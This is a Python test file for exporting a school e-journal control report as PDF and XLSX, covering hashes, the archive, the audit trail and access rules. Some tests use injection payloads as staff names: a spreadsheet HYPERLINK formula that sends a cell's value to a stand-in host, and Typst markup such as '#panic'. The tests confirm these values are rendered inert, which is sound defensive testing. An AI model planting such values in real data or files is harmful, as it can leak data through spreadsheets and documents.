"""The control report («Справка по итогам проверки ведения электронного журнала»): made
from the dashboard as PDF or XLSX for the constructed week (tests/control_journal.py),
read back as text and cells, archived with its hashes, and refused to teachers."""

from __future__ import annotations

import hashlib
import io
import json

from openpyxl import load_workbook  # type: ignore[import-untyped]
from sqlmodel import col, select

from core.models import AuditEntry, ControlReportExport, School, Staff
from core.reading.access import ReadingUnit
from core.reading.control_report import read_control_report
from core.reading.control_span import SpanAsked
from core.reports.control_pdf import control_report_pdf
from core.services.homework import set_homework
from tests.builders import uow_at, update_row
from tests.control_journal import READ_AT, WEEK, fill_the_week
from tests.web.browser import Web
from tests.web.pages import row_with, text_of
from tests.web.pdfs import page_size, pages_text, save_png

MADE = "27.11.2026 12:00"  # READ_AT on the school's clock, as the files print it


async def test_the_deputy_exports_the_report_as_pdf_and_finds_it_in_the_archive(web: Web) -> None:
    await fill_the_week(web.db, web.world)
    web.clock.now = READ_AT
    deputy = await web.signed_in("deputy")
    await deputy.get(f"/control?week={WEEK}")
    made = await deputy.submit("/control/reports", {"week": WEEK, "format": "pdf"})
    assert made.status_code == 303
    page = await deputy.get(made.headers["location"])
    assert "Файл сформирован и сохранён в архиве." in text_of(page.text)
    report = await read_control_report(
        ReadingUnit(web.db, clock=web.clock),
        actor=web.world.actor("deputy"),
        asked=SpanAsked(week=READ_AT.date()),
    )
    line = row_with(page.text, "PDF")
    assert line[:4] == ["27.11.2026, 12:00", "Орлова Т.Б.", "23.11.2026–29.11.2026", "PDF"]
    assert line[5] == report.content_sha256

    link = page.text.split('href="/control/reports/')[1].split('"')[0]
    download = await deputy.get(f"/control/reports/{link}")
    pdf = download.content
    assert download.headers["content-type"] == "application/pdf"
    assert download.headers["x-content-sha256"] == hashlib.sha256(pdf).hexdigest() == line[6]
    assert download.headers["x-report-content-sha256"] == report.content_sha256
    disposition = download.headers["content-disposition"]
    assert "spravka-kontrol-ezh-20261123-20261129-20261127-1200.pdf" in disposition

    assert page_size(pdf) == (842, 595)  # A4 landscape
    text = " ".join(pages_text(pdf))
    save_png(pdf, "control_report.png")
    save_png(pdf, "control_report-2.png", index=1)
    for words in (
        "Справка по итогам проверки ведения электронного журнала",
        "ШКОЛА Школа №1 ПЕРИОД ПРОВЕРКИ 23.11.2026–29.11.2026 ДАННЫЕ НА 27.11.2026",
        # The school's line, then the teachers, the most overdue first.
        "5 1 2 0 2 1 3 1 3 7 0 5 / 6 1 1",
        "Сидорова Е.В. 1 0 1 0 1 0 1 0 3 0 0 0 / 0 0 0",
        "Иванова М.П. 2 0 0 0 0 1 0 1 0 2 0 2 / 3 1 0",
        # The lessons behind them, per teacher.
        "Сидорова Е.В. 23.11 (3) 7Б Русский язык: тема: нет, посещаемость: нет, "
        "домашнее задание: нет, отметки: нет у 3",
        "Иванова М.П. 23.11 (2) 7Б Математика: домашнее задание: не в срок, отметки: 1 не в срок",
        "Новиков Иван (0 из 1)",
        "Иванова М.П. 7Б Математика 1 / 2 25.11",
        "23.11.2026 3 7Б Русский язык Петров С.И. Сидорова Е.В.",
        # 7Б's Wednesday over the limit, with the homework that makes it up.
        "9. Объём домашних заданий сверх нормы Дней сверх нормы (класс × день): 1. "
        "По классам: 7Б — 1",
        "25.11.2026 7Б 160 150 1 Математика — Иванова М.П.: 100 мин (задано 23.11); "
        "Математика — Иванова М.П.: 60 мин (задано 23.11, индивидуально)",
        "Контрольных работ вне графика: 1; по графику не проведено: 1. "
        "По учителям (вне графика / не проведено): Иванова М.П. — 1 / 1",
        "23.11.2026 7Б Математика Иванова М.П. контрольная работа проведена вне графика",
        "25.11.2026 7Б Математика Иванова М.П. контрольная работа по графику, не проведена",
        "7Б Петров С.И. ноябрь 2026 г.",
        "7Б 2 2 (100 %) 0 1 2 2 0 1",
        f"Сформировано {MADE} (Europe/Moscow)",
        "Заместитель директора по УВР Орлова Т.Б. Директор Дата",
    ):
        assert words in text, words
    # Printed in the legend and in every page's footer.
    assert text.count(report.content_sha256) == len(pages_text(pdf)) + 1

    async with web.db.session() as s:
        [row] = (await s.exec(select(ControlReportExport))).all()
        audit = (
            await s.exec(select(AuditEntry).where(AuditEntry.entity == "control_report_export"))
        ).one()
    assert (row.period_id, row.starts_on.isoformat(), row.ends_on.isoformat()) == (
        None,
        "2026-11-23",
        "2026-11-29",
    )
    assert (row.format, row.size, row.generated_by) == ("pdf", len(pdf), web.world.staff["deputy"])
    assert row.file_sha256 == hashlib.sha256(bytes(row.data)).hexdigest()
    assert audit.new is not None and audit.new["content_sha256"] == report.content_sha256
    assert "data" not in audit.new
    # The audit chain's fingerprint as it stood when the report was read, just before
    # the export's own entry: in the legend and in every page's footer.
    assert audit.seq is not None and audit.prev_hash is not None
    fingerprint = f"Цепочка журнала изменений: #{audit.seq - 1} · {audit.prev_hash[:16]}"
    assert text.count(fingerprint) == len(pages_text(pdf)) + 1


async def test_an_xlsx_report_through_the_api_opens_with_its_cells(web: Web) -> None:
    await fill_the_week(web.db, web.world)
    # A name that would be a formula stays a name in the workbook.
    formula = '=HYPERLINK("http://x/?"&B5,"Иванова")'
    await update_row(web.db, Staff, web.world.staff["math"], last_name=formula)
    web.clock.now = READ_AT
    token = await web.api_token("deputy")
    api = web.browser().client
    auth = {"Authorization": f"Bearer {token.secret}"}
    read = (await api.get(f"/api/v1/control/report?week={WEEK}", headers=auth)).json()
    canonical = json.dumps(
        read["content"], sort_keys=True, ensure_ascii=False, separators=(",", ":")
    ).encode()
    assert read["content_sha256"] == hashlib.sha256(canonical).hexdigest()
    assert read["content"]["totals"]["missing"]["marks"] == 3
    assert read["content"]["tests_not_held"] == [
        {
            "date": "2026-11-25",
            "class": "7Б",
            "group": None,
            "subject": "Математика",
            "teacher": formula + " М.П.",
            "kind": "test",
        }
    ]
    assert [a["minutes"] for a in read["content"]["overload"][0]["assignments"]] == [100, 60]

    made = await api.post(
        "/api/v1/control/reports", json={"format": "xlsx", "week": WEEK}, headers=auth
    )
    assert made.status_code == 201, made.text
    export = made.json()
    assert export["content_sha256"] == read["content_sha256"]
    assert (export["starts_on"], export["ends_on"]) == ("2026-11-23", "2026-11-29")
    data = (await api.get(export["url"], headers=auth)).content
    assert hashlib.sha256(data).hexdigest() == export["file_sha256"]
    listed = await api.get("/api/v1/control/reports", headers=auth)
    assert [e["id"] for e in listed.json()] == [export["id"]]

    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == [
        "Показатели",
        "Классы и предметы",
        "Уроки",
        "Ниже минимума",
        "Отметки за период",
        "Не проведены",
        "Замены",
        "Домашние задания сверх нормы",
        "Контрольные вне графика",
        "Письма родителям",
        "Охват семей",
    ]
    figures = book["Показатели"]
    values = [[cell.value for cell in row] for row in figures.iter_rows()]
    assert values[0][0] == "Справка по итогам проверки ведения электронного журнала"
    assert values[2][0] == "Период проверки: 23.11.2026–29.11.2026"
    assert values[6][:10] == ["Школа", 5, 1, 2, 0, 2, 1, 3, 1, 3]
    math = next(row for row in figures.iter_rows() if row[0].value == formula + " М.П.")
    assert math[0].data_type == "s" and math[0].quotePrefix
    # ... then homework over the limit, tests off the schedule and not held.
    assert [cell.value for cell in math[1:]] == [
        2,
        0,
        0,
        0,
        0,
        1,
        0,
        1,
        0,
        2,
        0,
        2,
        3,
        1,
        0,
        1,
        1,
        1,
    ]
    texts = [str(row[0]) for row in values]
    assert f"Сформировано {MADE} (Europe/Moscow)" in texts
    assert f"SHA-256 содержимого: {read['content_sha256']}" in texts
    lessons = [[c.value for c in row] for row in book["Уроки"].iter_rows(min_row=2)]
    assert lessons[0] == [
        "Сидорова Е.В.", "23.11.2026", 3, "7Б", "Русский язык",
        "тема: нет; посещаемость: нет; домашнее задание: нет; отметки: нет у 3",
    ]  # fmt: skip
    pupils = [[c.value for c in row] for row in book["Ниже минимума"].iter_rows(min_row=2)]
    assert ["2 четверть", "10А", "Математика", formula + " М.П.", "Морозова Елена", 0, 1] in pupils
    assert [[c.value for c in row] for row in book["Не проведены"].iter_rows(min_row=2)] == [
        [formula + " М.П.", "7Б", "Математика", 1, 2, "25.11"]
    ]
    math = formula + " М.П."
    overload = book["Домашние задания сверх нормы"]
    assert [[c.value for c in row] for row in overload.iter_rows(min_row=2)] == [
        ["25.11.2026", "7Б", 160, 150, 1, "Математика", math, 100, "23.11.2026"],
        ["25.11.2026", "7Б", 160, 150, 1, "Математика", math, 60, "23.11.2026"],
    ]
    tests = book["Контрольные вне графика"]
    assert [[c.value for c in row] for row in tests.iter_rows(min_row=2)] == [
        ["23.11.2026", "7Б", "Математика", math, "контрольная работа", "проведена вне графика"],
        ["25.11.2026", "7Б", "Математика", math, "контрольная работа", "по графику, не проведена"],
    ]


async def test_the_content_hash_follows_the_journal_not_the_clock(web: Web) -> None:
    await fill_the_week(web.db, web.world)
    web.clock.now = READ_AT
    w = web.world

    async def content_hash() -> str:
        report = await read_control_report(
            ReadingUnit(web.db, clock=web.clock),
            actor=w.actor("admin"),
            asked=SpanAsked(week=READ_AT.date()),
        )
        return report.content_sha256

    first = await content_hash()
    web.clock.advance(hours=3)
    assert await content_hash() == first
    await set_homework(
        uow_at(web.db, web.clock.now),
        actor=w.actor("english"),
        lesson_id=w.lessons["english7"],
        text="p. 40",
    )
    assert await content_hash() != first


async def test_the_report_is_the_administration_s(web: Web) -> None:
    await fill_the_week(web.db, web.world)
    web.clock.now = READ_AT
    math = await web.signed_in("math")
    await math.get(f"/control?week={WEEK}")
    refused = await math.submit("/control/reports", {"week": WEEK, "format": "pdf"})
    assert refused.status_code == 403
    assert "Справку по итогам проверки журнала составляет заместитель директора" in text_of(
        refused.text
    )
    token = await web.api_token("math")
    answer = await web.browser().client.get(
        f"/api/v1/control/report?week={WEEK}",
        headers={"Authorization": f"Bearer {token.secret}"},
    )
    assert answer.status_code == 403
    assert answer.json()["error"]["code"] == "control_report_overseers_only"
    admin = await web.signed_in("admin")
    await admin.get("/control/reports")
    bad = await admin.submit("/control/reports", {"week": WEEK, "format": "docx"})
    assert bad.status_code == 422
    assert "Формат «docx» не поддерживается: возможны pdf, xlsx." in text_of(bad.text)
    async with web.db.session() as s:
        assert (await s.exec(select(col(ControlReportExport.id)))).all() == []


async def test_names_with_typst_markup_print_as_typed_in_the_pdf(web: Web) -> None:
    """Names and the school's name are data to the template: Typst's markup characters
    in them print literally and run nothing; in English too, with its page numbers."""
    await fill_the_week(web.db, web.world)
    odd = '#panic("x") ] *Иванова* _М_ $1$ <b> @x \\ //'
    await update_row(web.db, Staff, web.world.staff["math"], last_name=odd)
    await update_row(web.db, School, web.world.school_id, name="Школа #set page(flipped: false)")
    web.clock.now = READ_AT
    report = await read_control_report(
        ReadingUnit(web.db, clock=web.clock),
        actor=web.world.actor("deputy"),
        asked=SpanAsked(week=READ_AT.date()),
    )
    pdf = control_report_pdf(report, language="ru")
    assert page_size(pdf) == (842, 595)
    text = " ".join(pages_text(pdf))
    for typed in (
        "ШКОЛА Школа #set page(flipped: false)",
        f"{odd} М.П. 2 0 0 0 0 1 0 1 0 2 0 2 / 3 1 0",
        f"{odd} М.П. 7Б Математика 1 / 2 25.11",
        f"По учителям (вне графика / не проведено): {odd} М.П. — 1 / 1",
    ):
        assert typed in text, typed
    english = pages_text(control_report_pdf(report, language="en"))
    assert all(f"p. {n} / {len(english)}" in page for n, page in enumerate(english, start=1))
    assert "Report on the check of the electronic journal" in english[0]
    save_png(pdf, "control_report_typed_markup.png")
